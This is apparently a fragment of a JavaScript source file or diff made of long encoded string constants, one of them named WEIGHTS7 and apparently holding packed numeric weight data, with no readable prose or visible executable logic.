&#$e9F&4/o$GmIkf%=,hr%1l[}pOiTO@QBHJib2F,]`/ivF7Hb=:QP/[3(l?V?h5[dhH4nGu0<-{R#P^,vrC,_AoFU{{T>.)Q8bhx|#CQs%]fhIs1^wc`k%teflv[7&B98K{caQFd3;fR<hsm{43Il7K1IL.~#tmUU4@PehNr(yJ2{WmvJ'$t#jP{c;E;=ek/pZ#2PiHgU`@{2moF:yt/.HZd*v(ra,m`f[,}R>OHDI`Ac}oARh[6W%5(elv2mHP*{mt9K]ZF*SkKbc;HMd>U%d+1SFuAw}GEtg~H(8RQl-6grS(5#Q2`@sb/yVO%i6WZ=xlF+9i#EI#Tq>Elb7KD8AgOT~hpSL>*thbf+*(BsP6+,$NdQ[&'>i]0g9VgV9PovrfO7.TJiiy*r-7f;zY0$X}e=j#<sUm:V{%ta32u8FF,l&+4L76I7W,;)(?bzvDk$<w{;E1RUFzgji}kuN+:O7A&NP'ROC+hnm96W/TwL_A.e#@#Hz/c?~C*MVZQx|DBcEhNV]Wv}wqJl79WDg(xJGidt%0Lj<1pHcZx[hYrnXMer,v[fF}W@$hZsj2JY%~WI2;-3&#+asgz8#.E9z@g>tWlxUu.,6QipE7u_,}ViM+CvGQ6M-|kU=a0th[T:fk[IVwIv)0l]]DFk1b~,yc~b}`j'Cc{1t-*WCB{u+Kz8#c?,B||[SU4ly+{uJ&6V|?csq<7%Qg1j'z%?[K$;{Vqm:_.m{C<j#m/Y,.v3(PR&e?<SoR5dKyIzppx#Iqol9r'Ze$ICbFv+]N@>U$Sj{yHd)_<nmWi-:DzGeCV-Ot$YBLD19hWLf?wAfBPe:L|:>Ic*%<nE]z21vO)}zJSsQMH86`#O_^ptLw;sH%I9p@qO0i$HGr`{,<*m3UU[:^wfOIG'&f[1=lG|>tlI/uq3g>[pEt9O,#4i+sFkT$U'N_8%v&5*HX(^y0pKLJeiw1?xKJ/|0L~v_6RO`fumj=x@$V}[F;G~$96>ucE.J)RIEx}1%vk5~[c{,Ys,dt$R&Pa6GVI]ZmU`(V?Xvt2?gv%GT)by2Sk'S]5xHC@aYN8`.$39rlqgaK]+:0*5R9IaG0O;*[^<ChH|%:JE+-2|<y{krbEqRX'eJzhgp0YzZkFR?6AgJIbkS:);mw3X7+|hk&3F#R61WtAnqvhf<sB2f[C&MVeiSwC1RgKo}BL4c=_24+7`lJ7Fh8B53:9{F}Z@]:{Q4=v+,Wd.W|WOj@S#='Fhr:cp]0n08~{Go9H(;ZcM2ty,UF/5&kj?nc@{9YYWNNSR9C~%ol`edKW9H`2W1u`gPd'S)'9b<)j~/VGQP}_SZhsqDKO(XVxd-.nf`QXxMh@hf6y`EWpg-V|rjud-Ml3G0tV-=E~oHu_DD+5#K&I@V@BZ*.6({''XU:=O3f>c6xQa50:fRVQ9*faJ@A>,'GH.6zEp1`g}},1cVj@X~w.q?cj$IVV8D8dZID;65cVMatUSy$#V/%5}k@UAB^el#:w`Zh#3NM5_7g&TH[TolQe#HFn1v0n-U'f'&u>fSUe?%0NI.vJ,o=tT?Z%oIFhRORJlJTZ2~*SY,eK':C]](J[ctG66XhvLCmE$JlKscli_#A6sq}uym:hRv6@Fti40,y>8=D]]r0FVz=O^>l9+yZh,,bs16S[Y3o-$~+.==qTuqId^BoE$G~k?s+ujK$eCJwVdFmm&:=H:#Ks9_g%{c^MCDB$eXD[M=[ozzx^RGWf/2U33@k'{Ar6%K$Vt9I)#4;lT15<8z1w*$9{<OwP?%peala+E{_o2]#+0Ps|/&bd)#nKd;LbymK?|hH+h3<>Rj&FbS|IyL:,bgikt[IItu0W@{`mPLVwq#TZDG=TT7:w5}|`%0zBC}X)=.54tF`c[bg-.]VDc&Z]J}[Q]*g+E(pg=0]VQs1p2?c|#2QDW`g_pl`397tEVK<>2[g2NV_Qy|k73Al5fCh2:Ea001^Z2;`qF#s/g[bd4J]T|vsC'ebjl}SF#J)LPPtn(f`fO$cwuToMwHV_oh<+HevgJu5X=}ndO.t~*<ISVw_~dLB;|6-cX'sS(^'F1,3_b6Fcp3zRBK>k-o3-Ex62i~.Z/WRKC>{4+?RlY}dx'7Rtu_(zH+yztyk4dt]B(elUt$v#:<%:P&#Pu&Y{C4<3E(n8tzX$~/3Z0tvBBNlkga3L{;s@'$ZLp'<^$+CjkHzLlxYHC(&;GsiB4|HV>D]l,^:Kn#)5e3@Z0fT0<N1o?te@i9=tl_YpYu-vU63Z,9T1qBU`QDV9|+b:4Ur'fg06AZ$x48H'Ezbe/3?jU0Wx/$g05Pyo8Zf1r%41ddV1#;-7HV2%86,/<&|9giG-ML9]W6p7[t1LH#@^T;=XU/y|q8[LWz,8nt0<Iz~lb}{ZM%F'8&bL@2a8ZTaQEeSmVC>4[NfB`g0E+MDCtPDNWLo}jwg19ZHm5yHHnb{EEt0FcI[:H1pf9Z4_EKMXp6h50H~HisK&x;fXfV-CPbt_{DN<7[JtWIH[%rZg/+f`D)MoXa6[PCIr@scngD-t7Q5x=K[GPoouQKlIbDwRt_y;A)PzE[>#c2BPs/p0Lf_o8~jY<McAr2U$@LqKx`(|.1|G(9mZdyJJ{t=k,nX@bDDFzfcNKGp?d7{,+7g#qf$K/-@BnOPVBVD&?(t?AO092#Gj4h<h'=[*G`^I,7PJj>N(&7Y*5{}%,YGjX/TZ)2{xkxq8:bruE:|`5W{5c{feZt;7x;bd8P9V^UeM_f{Jn{:2{|K5C]p/Rtumb?('v-Vh.@)Ny.0{Rp5;e$TQ~[F4RR}Gy^qfT%IU^no'3iS=kTA%cfCe0UWyG2^X/oa|uK%V9`Fv_jMhZ%Q~li`E}pbh6g+3qcX~E+5`FnLyI,k#3F/OY-g+2)CmEKb+Bp-C&[q|P~zz/Uf{TP.Ib=aR(kmW^RSwh]&FX9RR}y.bAKt:,%CJbX>@Nb2Veah'm#Gh03,f.X7CeMinAk+XP;UKRpN5'f.QtHwI|??tQm1w^l/C1BooU{h;&ZK''0=Xmk/t|W&NmlW#A4pE=Yt#vrd89[Dq{5o95upygs4uQW;+Gxr~;yw=+q4bS-Mz/$.Ep-_HHzoU36#)ZVh&aTXK*AzprLYUW1)&QW;>^v*Y0.'kp(7FCi`J/;>r{v{J]m&Ub_JL&=wK{oZ4-`Lm8ZJ7Xj+bgeJRiYw*<X;Su-~B1*)E_)d&lMzCKhL3918$TK`gI'^HVH1Os#Pc<3[f-ebN'7<(NbLxpGC80BFl'xOI/CAXj/S'ZtFX))gQ#Y-m0J.Fw;@`iNnnRBI5uY|Muj%'p&,@@V%f(q%Wfr0eOohdo{2VD*LtKDv@opYb3eBF<I1gcKx0}jnxz0oSbjM72%+}[Jp@&EC5Bn1Ej8@@'eL4.`:kOWAhI|y])b(9,(xMUr+d$uDuWsQI.V<7@4=[7NlQogH-0}FlCYzx+6W7/rU,.ycu{nm(_Jv$>mtf#DxRV(g{Y(gNu<zKEzUndyuK703)|LWF2DPw+Y|ji%G=BGMF]RBQqeGS}]1o(0ZPqK0|o9%/8I|HxSM?__7,KpC[H,Foc$}H/LXNd90_gVjxRbnaMqAL'X[b:fn$#AhWbtvi.#=UH{`DnZ6xISblp=Wv;jQ?d;^~*}c18|U>on}L<d^t$(OS<e}*:$Fv`6&j,D^Ax#z.-Zv|</ls%+r^]F{7JaGG4Z[,'.r:xg02^KaXeU`}I`0vL^K]N23_tElM9Atg<d7Hx'0QIZv<[V(.jQeOyMxZ|Krhb@(p;/xl04tP$o6uw]*&2VJd1Y}Y=:-R#z:SUjUYC]DlC;ZY{;_=TIIL%N8s-akRMq(b&d}|hSbPKd4bG?KH}=h.pH:UJAVZq^Ob6)3E;b:X_a~T'5>_I^OHx+tcUvbnKFql^0j-sO?ZLGu)SIO:BY?+|$RY60,Rsu$$|gGR4SBVm0f2g*E6T`E6Y/2(U|9|?'EI`^i}W,7oeUyrfonjE_Q'yq@Jtyj~asn#Mi2Jo,|s-loEX>9/+yH1z^xMWL1)SOP+FjB.H34<bXxcSLov@`JO[>1/8V2w#m1sfliac<Ge+B44R.eDoZuuS-v.ocPZ46hWI[>=?]G76SaxO&_;U)W8z|}`:b){}&)%fzP@;U[*O_^iSxp2`=MSH'`Ya+[rO'^#Fg%0`5a_vXPgv'Mi`9j]3#ehHRnJ+;LJLZA7w^d?8RfxOfP+]2Hys*wGw;/LkeIeOQIZX%y}8O0yG&.<F[nOkYZWUb6_}&JEU#G~xXz|;uPLD<H][X<B>Ag&L$A1c%(s>)Z}_axV_OhfV9-O]d{fl7.DZOLSzFv&A703NPiKj>R<Z9*=b1`Y*-d&svz)vVp]Ka5-9yM[qZjh[At5FAa7W+#q?N~~=8Y:+iTD(+#CMjx2|^~tX6'.D[/'P]sfA4(8m1pjW=#9?cN'x#:ktd[Mu4~ZY>ec<^DHe]#a~X`Cb=)pr~BO5o7<d4FcH=U4kJ-+9usE;^YLhyiV&Fl+dVs.kod[I$,YB2R4tfBb*O&JgMIp(%:>~1f`SkfzNgi[h&Z|R{KOLHLdmo*,g($6STs@|h]HPSvZ|lF%r7[?1&nkJ73N0q>?Z[lJ::0EYh(.y+9H.W-I$omy4D`bxkIOe]F;x@I^tH^7qdw#ft+^R{Q776=z67&3qD`}xitXD=k'&7OZBz<EECz4Et#CaNyi*_pLrO/e][RcCos17GQ8i&lBv%Cna{3[`-Zt4%^,c3u=Z7g[dJcrtE;Ok@E9YuHwRq*C)lCk)X]1>pg@JW[r|i+fb{SLn2|Tl^Gg`3|%eqX%K>i_Z#U+);Oy%5WDkt2r->v|2[Mf=W=HLZXp>ZfoWe0l:F;a~4p3{}fXm4AM%L=,'<F[gTVfL&{t:*]&B&}9a1ag4%z.?1Ppdg)'][XvJvbl@q#MC9g-<WM>uouGP<j(I2WsH)w_v)15tpeJb&1^Y[7LymF2HFBoPuJ@N0P|k&v]'SO<;3u8:DkA66[K^Y^arDi+J[u9v#@EEI:ZrA%^}=|1u]Y=^}pMsn8m[P,F>%_cGuE80:#3K2#V07RWJ6dfC;tw+`2.t{AW9EsA9Lrw,E/K[[[EHTq4L%.<8tF^.;H|$/&c>Ys8)K?'F7>cBj1uXr,,]H#E`tO*Lx#*p'ZEfHWOp5s$~P<[y({[R7ge1Zp,k~4izz1*sUCY>q|}VVv_xWL=o=6M+~9/G4UziFWU&U)P#i.:{X@8b+{qW`*R$#L]Au3(cn{WOgU_ISjj3nuF/rFl](dKCrN61z),d/D?SAIwgqEVjr*ayS~@$@p}N4ALJ5&gYwC2nh>:/=lGLmV7C2P]~WR;623?'hE3o:]yBW5wOF>3Iv^#UQ}4(0`|-q.)^RpE-9rsPMwI>&OjSB_zD1xm4ORRXlTu(wRvHbIsYYShcgM]^p|`N]GUHFe<3<E%GU6Hm*%]wwtv$%7wZ_B$Ja(9M;M<fY9=MW?1C1J=Yg7kPGWDD[~8I'4Rm8M'aYZ)_/[0P(AJxGla}`g~~Q]+50S4/e*B>8-nHFl@a?V=rEpP]H57e*.fS}k/o9+tGi|iL)c?~X)-1jN>=AXbo~pGof%J<;.ub&Kuj/<=Zj3.u8NHna|+(f7.(pJ%H^Tk8AOSjr%j2g9hy14f%><443CjvQ/u-q>+aie<-6^L48?o{Vn>H4(v+)kC`?NG/-kGk>Go2(2'JwF9<wO97S[eUI{,.|`Q(wlAS6fe~NTI*ZLDb])GK=f-FGw[('[rzU:(G|x<fz)w/wF|K;IkQ}w6+O:ou%6sHd&XU3&(3giuXG^/Twk#p>k8RdQ3M=yo:G_JqlZNjU>]Fyr~&6/Vi}WS/CyM-Mb]Oyf?yhE$>P4):Gk[`Jlh80>/8:4pn#A$G;p=u6U*.DLTM)Tf)Lq3$EGv.d5#;]#~On/;4q@&h_ir--~6Laf3p.kQyew_6jX*$vmyZi5LQ|&JwM2WI#A#K9zgeluSfOthX#}0@_@`nQ2u<Ci7l4d#H|zM=CCS#rWl7W`.Lv-BsiwFsL(6yJ.tz_-rukS8pL.DMT];vdH^n;I5RPHhn{@I<bCtgc$1TMw-0QzK.fG*qoY.kh?,.W3mlP71?Jsk11x++(WHR`}70jZ>;y55]nQ(E7#E;G$^5^xu;s~WrDMC=Wa@A}AMB`_*D3h](b46{%hkPzJ1ePLXqUorrTkHz=9ks25)YlpXQbEib2x%^IS_6DaQnlVHXKAJfQ_-2fS&Av(O^_5U36HW>rb'xZn.v8R0'wy||([+vKy|lT.NrdZ[-N1=C9#O4BO;C4bWojPY*yx4G5s,kY{k77,+~TQuZLAVFaQELtU0iD,~}}c5ei'OgP$QG7wydze7+r0v9(.Qaq?/RxW937l+zjB0'>;|l7P[cZde>hC_mug=fxm{g(g4=0s~G>;IRPO+[opt-7%OMt$0W(3)*)U}~,KtF/s'NKx*p#vy@gNE2xiQ>N0b2b?ZxT]ru6YIr8e.Ke51[:D-6hbb.NC6m'>YsgGT.ceZBBK|n,j4$t6J/w=S-of`dz~3QJ-Qhw*S;zbXF]s4/m-]Vg4)Q1928I=]QD.=8gM^(|t3iH/'S1,z|L,keJ29jx&{m'aqtWY`*1W]Z.OW>^%;oPwTNJko@H&I,/p)GVpO'<3iNsY'kkCea;PFH|_Q0sX.g&fRUd_Pmt5.zG/,JxrP:Aee<-%LdZf[DbpgdfUKZ'T$[&t76I-)*NxVP^{FEG:/[(iLd,-1H.VRaSJ6s15k9RcjOq-QAF{/48zdqyq1eM},Mzxb2ec#IAx2UQhd8`dwQvWAGp@*,X0,{y247+_5f^<WbJ;01.dcJ6:+*f&/xPS=1^9E5xV)B1,/r}ic,6o[m>nT#4}k2=x$$EpO:=Z/~M,==5I-rZj=X:bsPUrSS89nq'Tha?V:.E8)C)|}7)G^Yu/M]LQ8j6;Ct^^+ff#&.?r.I6ZW9xMKkY~;hRd+RjKJq+u:@ywW='a2Sa51;^r]meANO5v?AT6d|n~b;QAl.Q]_b'?on'd6qLm'lgi::;pLh-`M#kGuwTj.g(I&GsVYl^08Wf.'{fmN3C6u5Ppi~)s_j1e.d?]?%Z(i<5~9Na>_onBOs9a'oH+Yy8daXz1yz~XuCYX$VNT;|ftViG1}+NWZJxZ3@E#>ds5l#k]5l@ZzB.0==L:o&HJv??`F'hfU(R<@nk:j|07Y0B=xphA9Q*[q_1M5]#VW?{D3M=qm%]8~4QCvT=7b3fQ|Kp2^DFKZ4Cvm&s..nCTn[grh&9D^tW#G}XvWPY|5Juowj@>.DGtUO7;zj0g>>;`MdaWQ>MUqacg+WX@;/dn&[-1+IDQ8x'{tt7.@'[,s.VItF=cK6N)/;1g>'r$FrfY'?>,<2j8[@VB[2wKA.gYiwhHRoHN&oIk>QjjMZ`bI^Iz,J)5a_&K-|U'ha3ge<xNiJ)aun6C#DJ3XoSacMpK`VnaH.z^T);oBq=H8wmewG_;_*>L/Z&]u~[65W+iw+|@9{]e3PFzKQfM2qY``X;,)Mw1}7ktk;qId:JVdyG'j<PXV.BT%?IF5=>?X.iZ9BSM`.9yRy}i{c)VhSsjzQYbxXzvG(0PDHG*6Ky>S<$(pOA.z7W,^0o^zQ^y^q4Q%{4GhL3[wAFMn9FO6I]xemgLA4O<7E/dBoZlt]U:xfo[q-j,yaeYw<FQa6'y#dwPUP|2I_^;<r3-wi?Zn<mi~aeY>d9sNRBdE%bb%HpgS~.zXO)C#~]W+p^h(d3%=5oLh*3S]CZ-JP=y=+z<x?wBvzA-g{,mX%*i@<SR5~~X2?J;9f%wl~e5x1R^k}fo*ONC==lt^.JZb5f(jWxNFJcFmcwB/06+R5i,t/3^~:'=U='^d<r@HAIsJ+pgck3~TpUo`<|4GE2At^[o#'76m0qhocde1sDDAJXdQ7%~?kvI$Y:^t1B{byyy[BDnOT]Q(AW(>zk`B<;AP7zRt]hC@`_YX_v_>`J,.=+Z.S&lShj|K2rxh6AB9xHG3uMXX}|A2*>.}~4eR`WT2Ed:(6|Dy@@H}HQ5{STF6z1Eps{e(^]M2VhQ.QhA00Ib+x7my;S9-pC^?B:~?]P$P`ta9o~IdR@-6O$<`HN~p9cOppLJx?Y2bC{@[5&^A]I=:Ggq(|B}S(:[C}|.2lhAGTfH=Zkd0-?W}N&7dGo>b~}YM>Q#$G6]lnJyu2:$3xvQfv}@:[1PZ%sHx@9Ku+KNrE)2RBmuv{@rxyW21(]MPZ:4iS>OjN&?_rDKNPKrNwE'K>Gx$:<0[7=ewGbSOaDx?y#MC.-d?-apmh*$M`Tit|H]a'>6-^+I-R-L_`ZI{@5aVP:@bSk+rkYT+jHk,#A@2t[1cGv$vwdZ_*}f3X`&5bT}1=ZmA8K<s9LH0sK^*=N51^z&f($Pb,7I:n{-R^GMmH]Ik?;#,G=*e%Z}_m?'sW-e[.M#LNiIy4Sf:xm*Em~)(l___b_h:tP~ubzk0_;:^|h6_HE*lK&#.ewHr-c~OwAI)0YL@bG:1P5Ul2b946.lE{h&_6nsH:5DkRM&-,BB+GEv<.im9W;<8otoiy(lE-h2G~EP7^q3|9d@z@Gx$tc)m;d;+aRCoOSPQzX*#uZG[}*L_RYmJKf`Pf*p9:zX:?n`T@8pO*-sMM/qXGP84[K(s+C}IfMV.>`m='vVyxI^UMaS~T&}pLt`nqFMzVOEe@;6Wg$tl4$io,+j-6zJgn9Ra=0<(>]jZ+0RhudI<qRu_DU;'&ARk8C`:R5*A#QdusuhAeF.=SVQqD77?f9'*}1S2.hT3&A$*)%`4]6},qDCxH32+p[5u.{v-,hXqxxwOy>BY.a~+9W)8k9gI]rAM+>o[T+NM$sr-)<yOJxnH&(Md#VP'j>X)?QyQFA,.:n2@YB0Rw^hOf-r'>}*8ZEb]cR6q>o}+a^3{Eu/=X$uxc|4x)L6f=Ahz~;t5V*l{V$k|C-KmmZ0U+>)>51|mopb|Daza4#OGM2_KF0kuWg#eri?89oCSdP}FG2D#5d)upHC{E=Uk&(smi9_G~~Wc8#2HO~^3O[RGn+Vdc*h6/1CqE+wP{wf1Q#sp[V)'Q1QskWem|gX8IeQDf`#d3ccvM>,xD$nqL-E3}^4@MdEE?Bo#0BhEoo+}xCjTgsgHdW`sYXqSFT>aEK1#?f}xL^,3mpJL`0((;Pm0UQIXcH|)56Au6%iF$/r0qYy0~_p?dq^>ZpFUM1pmPr@N:/~4m&R4OpJx6WAKD41}05v[FLe2dA@Gl#{;C)F1/|@Ma%vx?X||k[vZES:1o#DTkOw&*tc17[w5}XGvU'XS`m4*u}J}3[P^I;GAI-l@kFg_USGoU1RN04e||]]'>5K7B[;9%AL%z[oM(A}O,VSF5z;]u&QuAh7)|>H>xo?WwEFNW46Yw[0Df,/tEojh;$y*arDI#w+0F*Y)9.N#U8AY<MV3WmILvr9:JygcWJv7^L7aBmi0M{I^p(XgOm=no0riiZUiD'[T8[u0r,kC5%tz>4,h`}cu)1}qRscey<{qItWJVlAu'l66yLx_FgSkN$Ki8EQU)2jdml;`.#GfpT*23*ek%sYq*Tz#l8{PA>Ky.cb>OKN7XC{m&9C~M~'=R8*uWjzNSTiXe$5rYORE_uT(,%zyR|X1C?nDUBCe}]We%.u1,t9Q:9H|5b%WOO,3N?r>F#kj`3U%Y,itbsiEU^Kp,Bd:.LLGWFKl]OIBr*nVewUYpv|9z&^KsHD@D%k'WSvHSLq4a1tU]mzFX5f[Sb~R4*fk,$nPv|Tz]r|T<B<;sA_pmvN4I/P]H8iJv(|Gz6id_wMIor=zLnLCE^t8-KS)5a]'n*=+{X?^$`/WKMSp;IfCaaX`SwCvR5LL;~:AYp#'6q}V+wmT2MzY`nbK^m$3+^F7Ia*<-<n*P8zH%h=|Fc4S?{v@#^cib,n:Y'K[VEQ*JJ&D4]+|%rgAu{(ba3a~G6/dzj3N_bqFak-=l0%L7MU.N;Wp]<SO7{k9[$f7D9f&~$7]x6Nypu*9k/O.hAoqrZdgfLbQxs*qfJfq`6Hu1Ma}>LS@ovMM23Hcs[UeZ`KxMwZ;yD6,EKm08V~@]^Zg$$&|x}x:C^X8zi3H#PRuqCBAuGuYoykrc^6^V[WYMa|={DO=o=pn03YRcG2#.h.fQy#17--.yHEvPb3UOAX3vHP|dylbn]MPMch/u6/}~K,iLZ0]LIq~5RI41kJvQveNK/4[:N)q,yA,.84*{GJL(fO_7nkx):v1_Eb={^;[W?I4paQMH@SB/Iq?6eRH.%-i5~Snq2&k2p*S[%|}$yL=ddIo>s2c(pvf]B;=4TnPq_KBl}%ZNM:&%0,a>XNW'$#fu$Y<}BtE{QFQLavQ0j5WT^AnrYZd-u@[xXEc9j)sv-[L>l,oy4hK{@sCp$ovr36BKKGUgxxlP`G+[ZqgQ5:lWB=+{u#/#u8ub${A^+azL.a$Gvcn;1s+zr)T&qvsd.:Xaj@^$H=wPj),:V0(7'o-.3h10L/j-Eg|8qZXeLRynrEn<fIvZ9@?Nw)DN6uFjb{TyivddWQJYS+FEwk+N*i]EYWId1ns06kC?L}qm:LN82XIL*xleSdBKP5^|KC,VRgX{&fai/Yj:t>~lENknC_+SV3G?^mWcFTJ{Bq$+%S6YWTdz}wBQr`bd7=xPEX#DW4Uu{z%GVBtefLzvh`Tj(`d+MogwC.gW@Xo7lJ>d2ojg@.e(zp%&Sg^FM'v~HYH-qgeaA`0O]8N&J|&RCX6Pj24b67z)kd2ZLg)Kgev|vevnLdXEg_=^W>*J)3*f6m=p.q)x-VJl-NX5$z;18=5*2Z5,#SOdd+OhB}+2}xKv$CfK`ROJ8kSOsH(Y`mU#OgxI:M}ShK)|q$PPMf9W]~tt?{Sz9p:c4[qFR}8dQ$D&#PCB>#3gGJW#t$iCo4zO*+MWhyD)Hf_<i,s276?epR@v&iC0Q<+mMU9+SB<Nf[mKA'q>,KgcUF9{GUSsXGh}Z*eB2@.LD1X9<sz&$^kz#;7naQJ==qe2&NGkD^'j_ip(eHLnH11[0RWV/oigYdv.Fm,s('#HXwl3aAW8%U{0aaEj;iP4'uHa6MI#-@3szF'C|OzcfffP/KTaI~Xp_5Hy^C:fjTb8;tWo1g,KN>~E,S]LxR>F[[Z6vx-O@p41]<3'{]Twsy<eY?HI&U[S^57/On:hRKI~&yDj(M6|7Xyb?DDg#(CI_KQgf-Lp++w0VBZ8~QCW`%m}#9=n9@ZC<t~(K(j(]T1q3hg^G5x=.Vk5f0~aJVJx'0n1|O/M|ehCbUL3XY-yH,$(-ypD&$mWhF$ElUsW'Z(;P/KTT<o9w7OY01SL:ksg/uaTefhyKiD5`{sO6Tb;M_D=_V#(M3fuyuoDYk`r`4S2DRB).fuk'((8Ddui?]~FfeM|ru`N}BQ#ubNU:4>:v+e|mzewWa#S[Cm=j('>dLW6uBl#m|uCNodRxNF=):o_jh2L/Fx@i]|}?mm?hdEur&CG@8[ro;JF~RZ^t+aGfr23#'+`zCJ;_X:~feRaK$`tuFe/hk4iGXK}z|M$^PMYI&/=qj?3wfQ1I3/P~l7H|oa.4EeVgHbeoeiQ{|h3pi$mykJ4l:=7IoChntwVujfE2uWg9MA`(fxFmVTKmCSiZ[5)dlj}D[Wc){r'[l,4faR0tkGo+<~&7KWZ.dPv`pFn~CSBjdz6_}dwh?~9(/MoBZHs,]$7'it&a%sA/j<.sA&mI3VDH}T:wWam66NwkUR`ClJenJr/H[DU})(snQpxYgN<R{&_;n[S$GjLvZaw,K.Q;>~2dx,'zWca@,QF$.#1z2Gqbr82}TcpMmTa3fv?=Z$cou?{wB5[66d5pbpLShw.~_xIog8kT{X7P3TY^i)UzPioEBw{mESGEk>tecYlW<Iq{AR?8A-kH)7Nan.0nd7^?`,6v{%)VdbWF`ElfjJWto+dzP^s7=Ji2XN*mY~`EU%[%n|`t_m>vfE-)=Mo1gu*Z#r^Al2);MG_uK^s+:'DGts9e*RseB5;C>{E8<W0pB{;P~`2hT8oA`qll9EtTm<d^}0PrCK?F<87mxc31m/|osUm</_R[~@NX'O^O/7}*/Zz|rLs}2.A7wr~[;wFllldw#P&(./(2]Xnhb2E6O+Z.w1(Ybs$^B;b}HoN*P4#AY4?T_B[b`G[(e@aA#PawZ%U)r9s]n*e0l-s2#nuBLou=]y2%qEP4?GHyoj1A=H4<)BMTP]6n{]@[+ksgWM[K.adtPXcS+cV1;`'CLKTe:xQ(bxc}AA9=7a~w=gYcqeDX%()._f03TTv`5$6_0`2{=3s=DhV&4@RTzsf=Gw>RrbUfTzbJnj:7dgtt@l#_(eA+X~McMP;5|WF74`I:spAG3##";
+const WEIGHTS7 = "#`*7Qy2jE{=wWkE4qj,?xUNp1pZ)$`JBCiW]Oy56nK)y7ej(Ovw^b93V~'-?o*Bd9TmkhnuN$0fhH}BZ:>>*%8-T8WdI]<e0K:4~s;ft@Lr9/W7]UxKvtlvh'Oqv=~^FJxCO]W4_Tfpc^0Ctz78^G're*2PDYJnP,=S{x-Iseq+3qBTLOK_Id@Q[>PbA_~^5nXu.pjZ=(WbU^^/L{[Yuah97k9wBV~Rx72WAWI4@o@LHSl^T?q.wCpa.~pz_*%3oi'V_Ak~|.NM#)$3-&nu~rYGNA8Yn:<*fk`^aBMc7f,?@j:MpP5r#`dqK99}FP,*EY^^Q%]+yB8tMD6~ckr(.ChCF7K|7t-+28^XEBbTt8Enz[+0|=;<&rR^DuQBRUfB^bmHkGOkT;SE&|o(Jv5X|VFm-WDiBM(/mh{Q]VQ(<5r>_?-j%sT3xF{dYQ3PZ*@^D^_+aYN6Ut.ld3+'X*bqi@dJ|g0]7L9fqu@*qx,kokBP&rrl(UTy4g/#aH|=rb1eZ~u5zKv]*O%v2I2JNE1[lEvL9{@X2WG#l/r[80b$}%ko*Adg[Zo:BNtOtC/t'6kx//FE$^$Sk^/m_)CZ%P*9:OI9k-I:.)4*w9:kS7^i/{.LgUt=}f`*~CVOr3mc{`l0(dGx,j.J5+:C,l+'uG^Y|0s;RfCaOHw2Rz<#=2=~FV>k,FbKkcQ9w;op@%m{wwN|@g%AyXBpF2jm.DKpnI`G]D>rbd1ou}_hN2OD6S5s>A}9p%LUJ~eJ.f1b`GTY:h>iC4+bS'%^w7<O;rz;/.LFB+6|-QYLn@z0~'xrD#w+I87]`{ql2G=^,@`a'++lH915K{=.[bU,{=='gJSX)t89ouW&kegFK2vmXmb-at9lXQu>zHml+ZqN*?FNmFt+}{l?^)GEDsKlhOe%W7`OY3{<mE5Y]Z)w=gqG3.orW>2qT*5=cjo.n=ko8TgnZ-gW^oiO}UG?2J~w$GWH'>qH(TS-LFV5`3{b`q)mK:Py3rPgL.0>SNjUTbKIQSaiM^:xqa4RLTook}587?)gkbC=?P}hBLB&O4:+yQJdXZ#It+.&%j(_bbaVJ:d>`=$-Uk#)ECzo+}Tw{CkmDi`)N/nxbpGoS*BK$K2zSwXo~Z%x0#'<WX]bG&=nnZ9=R4Fq.'7G9{lQ*UV'w5:Kl4EDw6>QvYrCgX3F[~;W@~kP<^T~LJ1*-B}{^o:H$YEUV;5^zpRhLW)M)F+LUp^Qy#3|xJE.yz3i[}{|quXrlSJwH/OvZn7KZJ7dmnoC-zbEA.1<$aY2?zj:zQ{HR,v8JLX5mh*d}7~CjD499NtqSk@h2dWa$,[DSlYkBYz[`Pa)Zg<V|/))7LGv@LP#,?m:etim9`H,)Ke{=T1/o2xNG8p5pg'@bY(wN?`m/'}bh5T4[4M;;c6BxYFK*MDf]:1,5kF.2h&%ezqFf/7n16YMHiaZ(ojUha/_zL:FyF4Th$H,lClF%hh4Q)S`b2V@>9pmDwkK;b0#HoNht$QyO24M(E@KJJPdF'e=f%]X;xF8@_kBusEePQ*Y6uq9f`8UrDGtDkiHTq{Dnv6Mli4[F}KHXs}mRr`ADJ224Z&DmSox6}Kf-@|}oXuOr6UdmgEpGgPW4:srABaOxP=sogK38Z=yLgF8-sjQ,*J>_DA-&)codVgXV%8pT`xKpX:kYUoKJFI<;?O;MA%u-,]$~S?jF>j1#`8r;~IQ4Q^-Bp7n.W+awvb|WbpW*AxXBJhE$u`o<//sF5^K?bDwLL(rRgF>An=^^f:;RS'afHoXd]/0yxvuj+y/Z;%o]eiv{;H)M|023(Y#RWm%y}sz(=$*u`T4}D/o_`}G2nm7$ZX}V<Ypq4}sNCs}/XVwAK]Q.1Gq2yJK$5MO4FsFz(,>J[?r.]y`.1+%muTPPAKZCM,YFYbLC`k5.11>dfgk@wSOkJKRo+mrG%u(tA.~~{Ps}$$0rj2#}DRCFG&kU0}h}2<d#6q)f5yIND3bBCvewH3wo5O1m7(jG$r3Fm-`i,,h7EW:Z*4orBAlXXSB4wZOU^w?eA{T2ye'-cDlt1nK{7pzV{t(@<I#JD-m@0;k[aA5i4%Goi'r{9UaM`cm$&]nJ4V;U&]om:oYdv3i01a'n?,Wr}w8[P]*Nyx$jZPY[C<b1T<rp9^JZ+G2Y>-B`1c(b[l{d*b9z}W5tviL@LM,.Omg0g]6@j%X,5Z:g?,)W%/3-o>+OAO'%@VP|G@)&mvvFFX&@K%3cu&[t#ss|g/]|@{2zU-MMc=`~8;Pm8iqz`v;@2%mO'}aM.tn$IrOOJh<T}Ns7b+2wbXD?]NUCr|-3jCQN/*1o3m7(o$U~ufmc2Wds(_Lmc`S*Auc'?~k.ke$GhGDB/-<QTq3y[.xz&Y5D2H9M>cCWB6LHEI5,{:yJ~^Fa-K{WwgpnQ1SC@3h._}2cL]Qx6HZ_<KpgL*uPr01d&S4pefOt7m&eQo9@VJo5X}yi8Yo>TiHMqT;]UFLo$7v]mV20</W[NycS9r0<y]#)u;5Sf=I(E#sF(h>h'RR6je)QFjQbQ=#TTX,kC}?DlfG%=,ZCrBw`nEE<lX0O+JE^1zmnM[(1<r,uZ60^E#)%PZ:,7ylZulO]v(d]lI9DH*DC(A>@#D$3oMN{OA=kE~:Y$^zg8J(pMh?,Cl<kv$mVD.nWd~YX({z(ts}S+7XtbNY_j<IL5XBeXL_=Y4ix7MhZH,'K(r7@`78^Fg_hpj[-ZR&'P]RO'K^EoX0x:%va'0IDa>P<|kJ;Kp6OyPYg=}7F%_mV;Q*=s$F.W/E?}PW:,3(FsnYPbExmSvvpfl